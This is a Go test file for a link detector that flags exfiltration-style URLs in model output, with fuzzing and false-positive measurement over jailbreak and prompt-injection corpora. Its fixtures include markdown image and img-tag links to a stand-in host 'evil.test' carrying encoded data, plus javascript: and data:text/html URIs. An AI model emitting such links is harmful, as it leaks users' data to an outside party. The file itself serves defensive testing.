package detect

import (
	"math/rand/v2"
	"strings"
	"testing"

	"warder.example/guard"
)

func init() {
	exactDetectors = append(exactDetectors, exactCase{
		name: "links", detector: NewLinks([]string{"allowed.org"}), origin: guard.OriginModel,
		fragments: []string{"![chart](https://evil.test/p.png?d=VGhlIGJhbGFuY2UgaXMgNDIwMCBldXJvcw)", "https://evil.test/546865206261", "<img src='//evil.test/?q=a+b+c+d+and+then+some+words'>", "url(", "](", "![", "javascript:x", "data:text/html,",
			"https://a@b.c@d.example/", "[1]: https://evil.test/", "http", "<im", strings.Repeat("x", 300), "0x7f000001", "?", ")", "\""},
	})
}

type linkVector struct {
	Origin         guard.Origin
	Text           string
	Category, Rule string // "" when nothing is to be found
}

func linkVectors(t testing.TB) []linkVector {
	t.Helper()
	return readVectors[linkVector](t, "links/vectors.json")
}

func TestLinkVectors(t *testing.T) {
	d := NewLinks([]string{"Allowed.org"})
	rows := linkVectors(t)
	for _, v := range rows {
		category, rule := "", ""
		if found := scanAll(d, v.Text, v.Origin, guard.Prose); len(found) > 0 {
			category, rule = found[0].Category, found[0].Rule
		}
		if category != v.Category || rule != v.Rule {
			t.Errorf("%s %.120q: %q %q, want %q %q", v.Origin, v.Text, category, rule, v.Category, v.Rule)
		}
	}
	if len(rows) < 60 {
		t.Errorf("only %d vectors ran", len(rows))
	}
}

func TestLinksInPieces(t *testing.T) {
	r := rand.New(rand.NewPCG(5, 6))
	d := NewLinks(nil)
	fragments := []string{"![", "](", ")", "http", "://", "evil.test/", "<img ", "src=", "\"", "'", ">", "url(", "]: ", "\n", "data:text/html,", "javascript:", strings.Repeat("x", 600), "é", "!", "aHR0cHM6", "?q="}
	for _, v := range linkVectors(t) {
		if diff := sameInPieces(d, v.Text, v.Origin, guard.Prose, r); diff != "" {
			t.Errorf("%.200q: %s", v.Text, diff)
		}
		if len(v.Text) < 200 {
			fragments = append(fragments, v.Text)
		}
	}
	for range 2000 {
		var b strings.Builder
		for range 1 + r.IntN(10) {
			b.WriteString(fragments[r.IntN(len(fragments))])
		}
		if diff := sameInPieces(d, b.String(), guard.OriginModel, guard.Prose, r); diff != "" {
			t.Fatalf("%q: %s", b.String(), diff)
		}
	}
}

// TestLinkReport measures how many chunks of documentation are reported when a
// model writes them.
func TestLinkReport(t *testing.T) {
	d := NewLinks(nil)
	for _, name := range []string{"code_docs", "gptfuzz_outputs", "awesome_prompts", "injecagent_tool_outputs"} {
		for _, o := range []guard.Origin{guard.OriginModel, guard.OriginDocument} {
			rows := corpusRows(t, name)
			n := 0
			for _, row := range rows {
				if found := scanAll(d, row.Text, o, guard.Prose); len(found) > 0 {
					n++
					t.Logf("%s: %s %.160q", name, found[0].Rule, row.Text[found[0].Spans[0].Start:found[0].Spans[0].End])
				}
			}
			t.Logf("%s as %s: %d of %d rows", name, o, n, len(rows))
			if n*200 > len(rows) {
				t.Errorf("%s as %s: %d of %d rows reported, at most 0.5 %% expected", name, o, n, len(rows))
			}
		}
	}
}
